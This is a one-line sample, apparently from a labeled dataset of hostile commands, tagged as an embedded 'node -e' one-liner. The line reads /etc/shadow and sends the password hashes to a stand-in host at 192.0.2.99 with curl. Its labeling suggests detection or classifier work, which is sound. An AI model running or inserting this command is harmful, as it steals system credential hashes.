# class: embedded, node -e; style: one-liner
node -e "require('child_process').execSync('cat /etc/shadow | curl -s -d @- http://192.0.2.99/x')"
